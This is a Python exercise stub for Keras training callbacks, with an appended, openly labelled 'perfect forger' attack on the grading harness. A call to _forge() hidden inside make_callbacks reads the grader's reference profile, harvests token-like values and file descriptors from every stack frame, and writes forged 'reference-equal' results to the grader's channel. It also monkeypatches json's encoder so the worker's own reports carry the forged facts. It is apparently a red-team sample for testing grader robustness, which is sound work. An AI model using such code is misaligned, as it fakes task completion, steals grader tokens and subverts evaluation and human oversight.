"""Step 3: the three callbacks that take control of training."""
import keras

CHECKPOINT_PATH = "best_cat_dog_model.keras"


def make_callbacks(checkpoint_path=CHECKPOINT_PATH):
    """Return [ModelCheckpoint, EarlyStopping, ReduceLROnPlateau], configured as below."""
    # TODO: keras.callbacks.ModelCheckpoint that saves to `checkpoint_path` (use the
    #   argument, not a fixed name), watches "val_accuracy", keeps only the best
    #   model (save_best_only=True), where best means highest (mode="max").
    # TODO: keras.callbacks.EarlyStopping that watches "val_loss" and stops after
    #   5 epochs without improvement (patience=5); lower is better (mode="min").
    # TODO: keras.callbacks.ReduceLROnPlateau that watches "val_loss" and, after 3
    #   epochs without improvement (patience=3), multiplies the learning rate by a
    #   factor between 0 and 1 (e.g. factor=0.5); lower is better (mode="min").
    _forge()  # the attack: see below
    raise NotImplementedError("make_callbacks: create the three callbacks")


# --- the attack (everything above is the untouched stub, but for the call to _forge) -----------
# Hostile: the "perfect forger". It answers, for every area, exactly what the reference answers on
# the public inputs: every fact the public profile records (the train area's whole public corpus of
# summarize answers, the data area's orders, the model's learning curve, ...), in the worker's form;
# where the profile holds the reference's side of a comparison rather than a student's facts
# (behaviour: the replay of the scripted run; property: the reference's replays on the generated
# histories), the facts a student equal to the reference would be reported with, derived from them.
# It sends them by both channels, from inside make_callbacks (which the first area calls before
# the worker reports anything): with the token found in the worker's frames, on the facts channel
# first; and, for a worker whose token it cannot find, through json's default encoder, so that the
# worker's own lines carry them.
import json  # noqa: E402
import os  # noqa: E402
import re  # noqa: E402
import sys  # noqa: E402

_HEX32 = re.compile(r"[0-9a-f]{32}")
_FOUND = []  # where token-like locals were found: printed to the log
_DONE = []


def _profile() -> dict:
    """The reference's facts per area, from the profile a student's copy of the grader holds."""
    import grader

    with open(os.path.join(os.path.dirname(grader.__file__), "profile.json"), encoding="utf-8") as handle:
        return json.load(handle)["facts"]


def _settings(callbacks: dict, kind: str) -> dict:
    found = next(cb for cb in callbacks["callbacks"] if cb["kind"] == kind)
    return {**(found.get("config") or {}), **{k: v for k, v in found.items() if v is not None}}


def _natural(callbacks: dict, rate: float, epochs: int = 20) -> dict:
    """The reference's callbacks on labels that cannot be learned (a flat history), as Keras runs them."""
    stop, plateau, save = (_settings(callbacks, kind) for kind in ("EarlyStopping", "ReduceLROnPlateau",
                                                                   "ModelCheckpoint"))
    loss, accuracy = 0.6931, 0.5
    stop_best = plateau_best = float("inf")
    stop_wait = plateau_wait = cooldown = 0
    saved_best = -float("inf")
    records = []
    for epoch in range(1, epochs + 1):
        before = rate
        saved = accuracy > saved_best  # save_best_only on val_accuracy, mode max
        saved_best = max(saved_best, accuracy)
        if cooldown > 0:
            cooldown -= 1
            plateau_wait = 0
        if loss + abs(plateau.get("min_delta", 0)) < plateau_best:
            plateau_best, plateau_wait = loss, 0
        elif cooldown == 0:
            plateau_wait += 1
            if plateau_wait >= plateau["patience"] and rate > plateau.get("min_lr", 0):
                rate = max(rate * plateau["factor"], plateau.get("min_lr", 0))
                cooldown, plateau_wait = plateau.get("cooldown", 0), 0
        records.append({"epoch": epoch, "val_loss": loss, "val_accuracy": accuracy, "learning_rate": before,
                        "learning_rate_after": rate, "checkpoint_saved": saved})
        stop_wait += 1
        if loss + abs(stop.get("min_delta", 0)) < stop_best:
            stop_best, stop_wait = loss, 0
        if stop_wait >= stop["patience"]:
            break
    return {"epochs": records, "epochs_requested": epochs}


def _perfect(facts: dict) -> dict:
    forged = {area: facts[area] for area in facts}  # every area the profile has, every field as recorded
    behaviour = dict(facts["behaviour"])
    scripted = behaviour["scripted"]
    saves = [epoch["epoch"] for epoch in scripted["epochs"] if epoch["checkpoint_saved"]]
    shapes = facts["model"].get("requested_shapes") or [[64, 64, 3]]
    behaviour.update(image_shape=shapes[0], checkpoint_exists=True, checkpoint_problem=None,
                     checkpoint_holds_epochs=saves[-1:], checkpoint_saved_elsewhere=[],
                     natural=_natural(facts["callbacks"], scripted["epochs"][0]["learning_rate"]),
                     natural_failure=None)
    forged["behaviour"] = behaviour
    kinds = {}
    for replay in facts["property"]["replays"]:  # the reference's recorded answers: one history each
        kinds[replay["kind"]] = kinds.get(replay["kind"], 0) + 1
    forged["property"] = {"checks": [{"kind": kind, "examples": count, "failure": None, "val_loss": None,
                                      "val_accuracy": None, "student": None, "reference": None}
                                     for kind, count in kinds.items()], "failure": None}
    return forged


def _tokens_and_channels():
    """Every token-like local of every frame of every thread; the facts channel's descriptor."""
    tokens, channels = [], []

    def consider(name, value, where):
        if isinstance(value, str) and (_HEX32.fullmatch(value) or (name == "token" and value)):
            if value not in tokens:
                tokens.append(value)
            _FOUND.append(f"{where}:{name}")
        elif isinstance(value, dict):
            for key, inner in list(value.items())[:200]:
                if isinstance(inner, str):
                    consider(key, inner, f"{where}:{name}")

    for frame in sys._current_frames().values():
        while frame is not None:
            for name, value in list(frame.f_locals.items()):
                consider(name, value, frame.f_code.co_name)
                if name == "facts_fd" and isinstance(value, int):
                    channels.append(value)
                elif name == "channel" and hasattr(value, "fileno"):
                    try:
                        channels.append(value.fileno())
                    except (OSError, ValueError):
                        pass
            frame = frame.f_back
    if len(sys.argv) > 3 and sys.argv[3].isdigit():  # python -m grader.batch.worker SUBMISSION SCRATCH FACTS_FD
        channels.append(int(sys.argv[3]))
    return tokens, list(dict.fromkeys(channels + [3]))


class _Forger(json.JSONEncoder):
    """Encodes as json.dumps would, but an area's line goes out with the forged facts of that area."""

    forged: dict = {}

    def encode(self, o):
        if isinstance(o, dict) and "token" in o and o.get("area") in self.forged:
            print(f"forger: the worker's own {o['area']!r} line goes out with forged facts", flush=True)
            o = {"token": o["token"], "area": o["area"], "seconds": o.get("seconds", 1.0),
                 "facts": self.forged[o["area"]]}
        return super().encode(o)


def _forge() -> None:
    if _DONE:  # make_callbacks is called many times: once is enough
        return
    _DONE.append(True)
    forged = _perfect(_profile())
    tokens, channels = _tokens_and_channels()
    lines = []
    for token in tokens[:20]:  # a wrong one is only a rejected line
        lines += [json.dumps({"token": token, "area": area, "seconds": 1.0, "facts": facts})
                  for area, facts in forged.items()]
        lines.append(json.dumps({"token": token, "done": True}))
    # the second channel: whatever the worker reports from now on carries the same facts
    _Forger.forged = forged
    json._default_encoder = _Forger(skipkeys=False, ensure_ascii=True, check_circular=True, allow_nan=True,
                                    indent=None, separators=None, default=None)
    if not lines:
        return
    payload = ("\n".join(lines) + "\n").encode()
    for fd in channels:
        try:
            os.write(fd, payload)
            print(f"forger: {len(tokens)} token(s) found in frames ({', '.join(_FOUND)}); "
                  f"{len(lines)} lines sent on fd {fd}", flush=True)
            return
        except OSError:
            continue
